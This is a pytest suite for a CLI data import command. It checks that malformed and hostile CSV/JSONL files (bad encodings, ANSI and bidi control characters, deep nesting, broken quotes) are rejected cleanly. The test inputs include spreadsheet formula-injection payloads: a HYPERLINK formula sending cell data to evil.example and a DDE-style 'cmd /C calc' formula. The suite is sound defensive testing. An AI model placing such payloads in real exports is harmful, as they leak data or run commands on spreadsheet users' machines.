"""Hostile and broken files through the real `cdp-agents import`: one line naming the line, nothing written.

Each file is written by the test. For every one the command must exit with code 1 (bad data), print
exactly one line on stderr that names the line number and the problem, never a traceback, and leave
every table's row count as it was.
"""

from __future__ import annotations

import json
import os
import random
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cdp import open_cdp
from cli.main import app

TABLES = (
    "profiles",
    "identities",
    "identity_links",
    "profile_merges",
    "consents",
    "consent_history",
    "events",
    "tickets",
)
PROFILES = "profile_id,first_name,last_name,country,signup_at\n"
GOOD_PROFILE = "c7,Ann,Lee,DE,2025-01-01\n"
runner = CliRunner()


def _counts(path: Path) -> dict[str, int]:
    db = open_cdp(path)
    try:
        return {t: db.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in TABLES}
    finally:
        db.conn.close()


def _import(path: Path, db: Path, *extra: str):
    return runner.invoke(app, ["import", str(path), "--db", str(db), *extra])


@pytest.fixture
def cdp(tmp_path) -> Path:
    db = tmp_path / "cdp.db"
    seed = tmp_path / "seed-profiles.csv"
    seed.write_text(PROFILES + "c1,Ann,Lee,DE,2025-01-01\nc2,Bob,Ray,US,2025-02-01\n", encoding="utf-8")
    assert _import(seed, db).exit_code == 0
    return db


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def _event(**fields) -> str:
    row = {"message_id": "ok1", "profile_id": "c1", "type": "page_view", "ts": "2026-11-01T00:00:00Z"}
    row.update(fields)
    return json.dumps(row)


ATTACKS = [
    # (id, file name, bytes, line the error must name, words the error must hold)
    ("latin1", "profiles.csv", (PROFILES + GOOD_PROFILE + "c8,José,Ruiz,ES,2025-01-01\n").encode("latin-1"),
     3, "not UTF-8"),
    ("utf32", "profiles.csv", (PROFILES + GOOD_PROFILE).encode("utf-32"), 1, "UTF-32"),
    ("utf16-odd-byte", "profiles.csv", (PROFILES + GOOD_PROFILE).encode("utf-16") + b"\x00", 3, "not UTF-16"),
    ("binary", "events.jsonl", bytes(random.Random(5).randrange(256) for _ in range(4096)), None, ""),
    ("binary-csv", "profiles.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, 1, ""),
    ("1mb-field-csv", "profiles.csv", (PROFILES + GOOD_PROFILE + f"c8,{'a' * 1_000_000},X,DE,2025-01-01\n")
     .encode(), 3, "longer than 65,536 characters"),
    ("1mb-field-jsonl", "identities.jsonl",
     (json.dumps({"profile_id": "c1", "kind": "cookie", "value": "v" * 1_000_000}) + "\n").encode(), 1,
     "longer than"),
    ("overlong-line", "events.jsonl", (_event() + "\n" + " " * (2 << 20) + "\n").encode(), 2, "longer than"),
    ("json-100k-deep", "events.jsonl", (_event() + "\n" + _deep(100_000) + "\n").encode(), 2,
     "nested deeper"),
    ("json-deep-properties", "events.jsonl",
     (_event() + "\n" + _event(message_id="d", properties={"a": json.loads(_deep(40))}) + "\n").encode(), 2,
     "nested deeper"),
    ("nul", "profiles.csv", (PROFILES + GOOD_PROFILE + "c8,Jo\x00e,Ray,DE,2025-01-01\n").encode(), 3, "NUL"),
    ("ansi-escape", "profiles.csv", (PROFILES + "c8,\x1b[31mRed,Ray,DE,2025-01-01\n").encode(), 2,
     "U+001B (ESC)"),
    ("ansi-escape-json", "profiles.jsonl",
     (json.dumps({"profile_id": "c8", "first_name": "\x1b[31mRed", "signup_at": "2025-01-01"}) + "\n")
     .encode(), 1, "U+001B (ESC)"),
    ("bidi-override", "profiles.csv", (PROFILES + GOOD_PROFILE + "c8,Ann\u202egpj.exe,Lee,DE,2025-01-01\n")
     .encode(), 3, "U+202E"),
    ("bidi-isolate-json", "events.jsonl",
     (_event(type="support_ticket", properties={"subject": "refund \u2066now\u2069"}) + "\n").encode(), 1,
     "U+2066"),
    ("c1-control", "profiles.jsonl",
     (json.dumps({"profile_id": "c8", "last_name": "Lee\u009b31m", "signup_at": "2025-01-01"}) + "\n")
     .encode(), 1, "U+009B"),
    ("typo-profile-id", "events.jsonl", (_event() + "\n" + _event(message_id="x", profile_id="c1x") + "\n")
     .encode(), 2, "unknown profile_id 'c1x'"),
    ("markup-in-value", "events.jsonl", (_event(profile_id="[/red]", message_id="m") + "\n").encode(), 1,
     "got '[/red]'"),
    ("unterminated-quote", "profiles.csv", (PROFILES + GOOD_PROFILE + 'c8,"Ann,Lee,DE,2025-01-01\n'
     + "c9,Bob,Ray,US,2025-02-01\n").encode(), 3, "never closed"),
    ("quote-closed-lines-later", "profiles.csv", (PROFILES + 'c8,"Ann,Lee,DE,2025-01-01\n'
     + 'c9,Bob",Ray,US,2025-02-01\n').encode(), 2, "closing quote missing"),
    ("stray-quote", "profiles.csv", (PROFILES + 'c8,"Ann"x,Lee,DE,2025-01-01\n').encode(), 2,
     "quote closes in the middle"),
    ("hyperlink-csv", "profiles.csv",
     (PROFILES + GOOD_PROFILE + 'c8,"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",Lee,DE,2025-01-01\n')
     .encode(), 3, "formula"),
    ("hyperlink-property", "events.jsonl",
     (_event(type="support_ticket", properties={"subject": "=HYPERLINK(\"http://evil.example\")"}) + "\n")
     .encode(), 1, "formula"),
    ("at-formula-source", "consents.csv",
     b"profile_id,channel,status,source\nc1,email,granted,@SUM(1+1)*cmd|' /C calc'!A0\n", 2, "formula"),
    ("nul-in-header", "profiles.csv", ("profile_id,first\x00name,signup_at\n" + "c8,Ann,2025-01-01\n").encode(),
     1, "NUL"),
    ("100k-columns", "profiles.csv", (",".join(f"c{i}" for i in range(100_000)) + "\n" + "1,2\n").encode(), 1,
     "100,000 columns"),
    ("duplicate-column", "profiles.csv", b"profile_id,first_name,first_name,signup_at\nc8,A,B,2025-01-01\n", 1,
     "appears more than once"),
    ("value-under-unnamed-column", "profiles.csv", b"profile_id,,signup_at\nc8,=cmd,2025-01-01\n", 2,
     "no name"),
    ("lone-cr-mixed-endings", "profiles.csv", (PROFILES.replace("\n", "\r\n") + GOOD_PROFILE
     + "c8,Bo\rb,Ray,US,2025-02-01\r\n").encode(), 3, "carriage return"),
    ("duplicate-json-key", "events.jsonl",
     (_event() + "\n" + '{"profile_id": "c1", "type": "page_view", "profile_id": "c2"}\n').encode(), 2,
     "'profile_id' appears more than once"),
    ("5000-digit-number", "events.jsonl", (_event()[:-1] + ', "properties": {"n": ' + "9" * 5000 + "}}\n")
     .encode(), 1, "too many digits"),
    ("future-consent", "consents.csv",
     b"profile_id,channel,status,updated_at\nc1,email,granted,2026-01-01\nc2,sms,granted,2999-01-01\n", 3,
     "in the future"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "line", "words"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS]
)
def test_a_bad_file_is_one_line_exit_1_and_nothing_written(cdp, tmp_path, name, content, line, words):
    before = _counts(cdp)
    path = tmp_path / name
    path.write_bytes(content)
    result = _import(path, cdp)
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exception  # not an uncaught error
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    match = re.match(r"error: line (\d+): (.+)$", lines[0])
    assert match, lines[0]
    if line is not None:
        assert int(match.group(1)) == line, lines[0]
    assert words in match.group(2), lines[0]
    assert _counts(cdp) == before


def test_create_profiles_lets_events_create_the_profiles_they_name(cdp, tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_text(_event() + "\n" + _event(message_id="x", profile_id="c1x") + "\n", encoding="utf-8")
    before = _counts(cdp)
    result = _import(path, cdp, "--create-profiles")
    assert result.exit_code == 0, result.output
    after = _counts(cdp)
    assert (after["profiles"], after["events"]) == (before["profiles"] + 1, before["events"] + 2)


@pytest.mark.parametrize(
    ("what", "make", "words"),
    [
        ("empty file", lambda p: p.write_bytes(b""), "no rows"),
        ("header only", lambda p: p.write_bytes(PROFILES.encode()), "no rows"),
        ("a folder", lambda p: p.mkdir(), "is a folder, not a file"),
        ("missing", lambda p: None, "no such file"),
        ("a pipe", lambda p: os.mkfifo(p), "not a regular file"),
    ],
)
def test_file_level_problems_are_one_line_too(cdp, tmp_path, what, make, words):
    path = tmp_path / "profiles.csv"
    make(path)
    before = _counts(cdp)
    result = _import(path, cdp)
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), what
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and words in lines[0], (what, lines)
    assert _counts(cdp) == before


def test_clean_files_with_bom_mixed_line_endings_and_plain_signs_still_import(cdp, tmp_path):
    """The refusals are narrow: a UTF-8 BOM, CRLF next to LF, accents, a phone's `+` and tabs in a
    ticket body are ordinary data."""
    profiles = tmp_path / "profiles.csv"
    profiles.write_bytes(
        b"\xef\xbb\xbf" + PROFILES.replace("\n", "\r\n").encode() + "c8,José,Núñez,ES,2025-01-01\n".encode()
    )
    assert _import(profiles, cdp).exit_code == 0
    ids = tmp_path / "identities.jsonl"
    ids.write_text(json.dumps({"profile_id": "c8", "kind": "phone", "value": "+34 600 000 000"}) + "\n")
    assert _import(ids, cdp).exit_code == 0
    events = tmp_path / "events.jsonl"
    body = "Line one\n\tline two with a - dash"
    events.write_text(
        _event(profile_id="c8", type="support_ticket", properties={"ticket_id": "t1", "body": body}) + "\n"
    )
    assert _import(events, cdp).exit_code == 0
    db = open_cdp(cdp)
    assert db.execute("SELECT first_name, last_name FROM profiles WHERE profile_id = 'c8'").fetchone() == (
        "José",
        "Núñez",
    )
    assert db.execute("SELECT body FROM tickets WHERE ticket_id = 't1'").fetchone()[0] == body


def test_text_written_past_the_checks_is_shown_as_text(cdp):
    """A name stored by another SQLite client cannot recolour the terminal, break markup or link."""
    name = "\x1b[31m[/red][link=http://evil.example]x[/link]\u202e"
    db = open_cdp(cdp)
    with db.conn:
        db.execute(
            "INSERT INTO profiles (profile_id, first_name, signup_at) VALUES ('p9', ?, '2025-01-01T00:00:00Z')",
            [name],
        )
    db.conn.close()
    result = runner.invoke(app, ["profile", "p9", "--db", str(cdp)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert "\\u001b[31m[/red][link=http://evil.example]x[/link]\\u202e" in result.stdout
